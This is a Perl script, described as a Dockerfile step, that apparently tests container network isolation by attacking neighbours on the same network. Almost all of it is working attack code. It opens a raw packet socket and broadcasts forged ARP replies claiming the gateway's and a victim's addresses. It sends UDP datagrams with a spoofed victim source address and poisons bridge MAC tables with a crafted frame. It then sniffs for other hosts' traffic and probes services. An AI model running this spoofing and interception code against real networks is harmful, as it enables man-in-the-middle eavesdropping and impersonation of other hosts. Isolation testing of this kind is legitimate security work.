# A step of a Dockerfile that looks for others and forges frames. Arguments: a victim's address, an address that answers
# "far" on port 5000, another address of the host, and a port of the host.
use strict; use warnings; use Socket; use IO::Socket::INET;
$| = 1;
my ($victim, $far, $hosts, $port) = @ARGV;
open(my $trie, '<', '/proc/net/fib_trie') or die;
my ($own) = grep { !/^127\./ } (join('', <$trie>) =~ /\|-- ([\d.]+)\n\s+\/32 host LOCAL/g);
(my $gateway = $own) =~ s/\.\d+\.\d+$/.0.1/;

sub answer {
  my $socket = IO::Socket::INET->new(PeerAddr => "$_[0]:$_[1]", Timeout => 1) or return ();
  my $line = <$socket> // '';
  chomp $line;
  return ($line);
}

sub slurp { open(my $file, '<', $_[0]) or die "$_[0]: $!"; my $line = <$file>; chomp $line; return $line }
my $mac = pack('H12', slurp('/sys/class/net/eth0/address') =~ s/://gr);
my $index = slurp('/sys/class/net/eth0/ifindex');
socket(my $raw, 17, SOCK_RAW, 0x0300) or die "no raw socket: $!";  # PF_PACKET, ETH_P_ALL
my $to = pack('S n i S C C a8', 17, 3, $index, 1, 0, 6, "\xff" x 6);
bind($raw, $to) or die "bind: $!";

sub macOf { return pack('C6', 2, 0x42, split(/\./, $_[0])) }
sub frame { send($raw, $_[0], 0, $to) }
# An ARP answer: `address` is at our interface. To everybody, and to the victim and the gateway alone.
sub claim {
  my ($address, $as) = @_;
  for my $target ("\xff" x 6, macOf($victim)) {
    frame($target . $as . pack('n n n C C n', 0x0806, 1, 0x0800, 6, 4, 2) . $mac . inet_aton($address) . $target . inet_aton($victim));
  }
}
# A datagram with the victim's source address to a port of the host.
sub datagram {
  my ($target) = @_;
  my $udp = pack('n n n n', 4000, $port, 12, 0) . 'fake';
  my $head = pack('C C n n n C C n a4 a4', 0x45, 0, 20 + length($udp), 1, 0, 64, 17, 0, inet_aton($victim), inet_aton($target));
  my $sum = 0;
  $sum += $_ for unpack('n*', $head);
  $sum = ($sum & 0xffff) + ($sum >> 16) while $sum >> 16;
  substr($head, 10, 2) = pack('n', ~$sum & 0xffff);
  open(my $arp, '<', '/proc/net/arp');
  for (<$arp>) { my @field = split; frame(pack('H12', $field[3] =~ s/://gr) . $mac . pack('n', 0x0800) . $head . $udp) if $field[0] eq $gateway }
}

print 'far: ', join(' ', answer($far, 5000)), "\n";
my ($foreign, @reached, @hosts) = (0);
my $end = time + 6;
while (time < $end) {
  claim($_, $mac) for $gateway, $victim;
  claim($victim, macOf($victim));
  datagram($_) for $gateway, $hosts;
  # A frame to nobody teaches a bridge that the victim is here.
  frame("\x02\x42\x00\x00\x00\x01" . macOf($victim) . pack('n', 0x88b5) . 'x' x 50);
  my $seen = '';
  vec($seen, fileno($raw), 1) = 1;
  while (select(my $ready = $seen, undef, undef, 0.02)) {
    my $from = recv($raw, my $data, 2000, 0) // last;
    # pkttype 4 is a frame that we sent.
    next if unpack('S n i S C', $from) && (unpack('S n i S C', $from))[4] == 4;
    next unless length($data) > 34 && unpack('n', substr($data, 12, 2)) == 0x0800;
    my ($source, $target) = map { inet_ntoa(substr($data, $_, 4)) } 26, 30;
    $foreign++ if $target ne $own && $source ne $own && $target !~ /^(22[4-9]|23|255)/;
  }
}
push @reached, answer($victim, 5000) for 1 .. 2;
push @hosts, answer($_, $port) for $gateway, $hosts;
print 'reached: ', join(' ', @reached), "\n", 'host: ', join(' ', @hosts), "\n", "foreign frames: $foreign\n";
